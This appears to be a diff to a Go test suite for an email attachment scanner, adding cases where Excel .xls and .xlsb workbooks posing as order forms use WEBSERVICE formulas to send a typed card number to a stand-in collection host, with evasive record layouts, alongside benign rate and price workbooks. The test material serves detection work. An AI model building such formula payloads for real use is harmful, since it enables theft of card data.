@@ -238,6 +238,23 @@ func officeLinkCases() []officeCase {
 				Names:   []formats.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
 				Strings: []string{"4000-0000-0000-0002"}}),
 			wants: []relWant{{"heuristic", "formula-web-fetch", "/web-formulas"}}},
+		{name: "xls-webservice-sst-first", about: "Excel 97-2003 workbook (.xls) whose WEBSERVICE address is a shared string (a LABELSST cell) and the cell below it where the reader types a card number; the SST comes before the names, one of them the web function's, and the sheets lie inside the body of a record of an unknown type: Excel and LibreOffice read records in any order and seek to each sheet where its BOUNDSHEET says",
+			action: policy.Tag, subject: "Order form", body: "Please fill in your card number in A2.\n", ctype: "application/vnd.ms-excel", file: "order.xls",
+			data: formats.XLS(formats.XLSWorkbook{
+				Sheets: []formats.XLSSheet{{Name: "Order", Formulas: []formats.XLSFormula{
+					{Col: 2, Rgce: formats.Cat(formats.PtgName(1), formats.PtgRef(0, 0), formats.PtgRef(1, 1), formats.PtgConcat, formats.PtgFuncVar(2, 0xFF, false))}}}},
+				Names:   []formats.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
+				Strings: []string{"https://collect.example.net/c?n="}, SSTFirst: true, Tucked: true}),
+			wants: []relWant{{"heuristic", "formula-web-fetch", "/web-formulas"}}},
+		{name: "xlsb-webservice-shared-copy", about: "Excel binary workbook (.xlsb) whose WEBSERVICE is filled down a column as Excel saves it (a shared formula: each cell a PtgExp, the formula once in a BrtShrFmla, its reference an offset, Ptg12RefN), each copy sending its own row's card number; the first row's is filled in, the second row's is the one the reader types",
+			action: policy.Tag, subject: "Order form", body: "Please fill in your card number in row 2.\n", ctype: "application/vnd.ms-excel.sheet.binary.macroEnabled.12", file: "order.xlsb",
+			data: formats.XLSB(formats.XLSWorkbook{
+				Sheets: []formats.XLSSheet{{Name: "Order", Formulas: []formats.XLSFormula{
+					{Col: 1, Down: 3, Rgce: formats.Cat(formats.PtgName(1), formats.Ptg12Str("https://collect.example.net/c?n="), formats.Ptg12RefN(0, -1), formats.PtgConcat, formats.PtgFuncVar(2, 0xFF, false))}},
+					Cells: []formats.XLSCell{{Row: 0, Col: 0, Text: "4000-0000-0000-0002"}}}},
+				Names:   []formats.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
+				Strings: []string{"4000-0000-0000-0002"}}),
+			wants: []relWant{{"heuristic", "formula-web-fetch", "/web-formulas"}}},
 		{name: "xlsb-connection-odc-webdav", about: "Excel binary workbook (.xlsb) whose data connection (xl/connections.bin, BrtBeginExtConnection's stConnectionFile) was made from an .odc on a WebDAV share of an Internet host and refreshes as the workbook opens: the binary twin of xlsx-connection-odc-webdav",
 			action: policy.Tag, subject: "Sales figures", body: "The sales figures refresh as you open the workbook.\n", ctype: "application/vnd.ms-excel.sheet.binary.macroEnabled.12", file: "sales.xlsb",
 			data: formats.XLSB(formats.XLSWorkbook{Sheets: []formats.XLSSheet{{Name: "Sales"}},
@@ -345,6 +362,21 @@ func officeLinkClean() []Sample {
 					{Col: 1, Down: 3, Rgce: formats.Cat(formats.PtgName(1), formats.PtgStr("https://quotes.example.org/q?s="), formats.PtgRefN(0, -1), formats.PtgConcat, formats.PtgFuncVar(2, 0xFF, false))}}}},
 				Names:   []formats.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
 				Strings: []string{"MSFT", "AAPL", "GOOG"}})))})
+	add(ok("xls-rates-sst-first", "an Excel 97-2003 workbook from a supplier, written with its shared strings before its names and its sheet inside an unknown record (as Excel and LibreOffice read it), whose WEBSERVICE reads the day's exchange rate from the address in a shared string, the currency filled in"),
+		mail{from: "Accounts <accounts@supplies.example.com>", subject: "Exchange rates", root: multipart("mixed", text("Today's rate refreshes as you open the sheet.\n"),
+			attach("application/vnd.ms-excel", "rates.xls", formats.XLS(formats.XLSWorkbook{
+				Sheets: []formats.XLSSheet{{Name: "Rates", Formulas: []formats.XLSFormula{
+					{Col: 3, Rgce: formats.Cat(formats.PtgName(1), formats.PtgRef(0, 0), formats.PtgStr("&to=USD&amount="), formats.PtgConcat, formats.PtgStr("100"), formats.PtgConcat, formats.PtgFuncVar(2, 0xFF, false))}}}},
+				Names:   []formats.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
+				Strings: []string{"https://api.rates.example/convert?from=EUR"}, SSTFirst: true, Tucked: true})))})
+	add(ok("xlsb-stock-prices-filled-down", "a broker's binary workbook (.xlsb) whose closing-price WEBSERVICE is filled down a column (a shared formula), each row reading the price of the ticker its own row names"),
+		mail{from: "Research <research@broker.example.com>", subject: "Closing prices", root: multipart("mixed", text("Closing prices refresh as you open the workbook.\n"),
+			attach("application/vnd.ms-excel.sheet.binary.macroEnabled.12", "prices.xlsb", formats.XLSB(formats.XLSWorkbook{
+				Sheets: []formats.XLSSheet{{Name: "Prices", Formulas: []formats.XLSFormula{
+					{Col: 2, Down: 3, Rgce: formats.Cat(formats.PtgName(1), formats.Ptg12Str("https://prices.example.org/close?ticker="), formats.Ptg12RefN(0, -2), formats.PtgConcat, formats.PtgFuncVar(2, 0xFF, false))}},
+					Cells: []formats.XLSCell{{Row: 0, Col: 0, Text: "IBM"}, {Row: 1, Col: 0, Text: "ORCL"}, {Row: 2, Col: 0, Text: "SAP"}}}},
+				Names:   []formats.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
+				Strings: []string{"IBM", "ORCL", "SAP"}})))})
 	add(ok("xlsb-connection-my-data-sources", "a colleague's binary workbook (.xlsb) whose data connection was made from an .odc in her My Data Sources folder, its Access database on the file server"),
 		mail{from: colleague, subject: "Sales", root: multipart("mixed", text("The sales workbook; Data > Refresh All updates it.\n"),
 			attach("application/vnd.ms-excel.sheet.binary.macroEnabled.12", "sales.xlsb", formats.XLSB(formats.XLSWorkbook{Sheets: []formats.XLSSheet{{Name: "Sales"}},
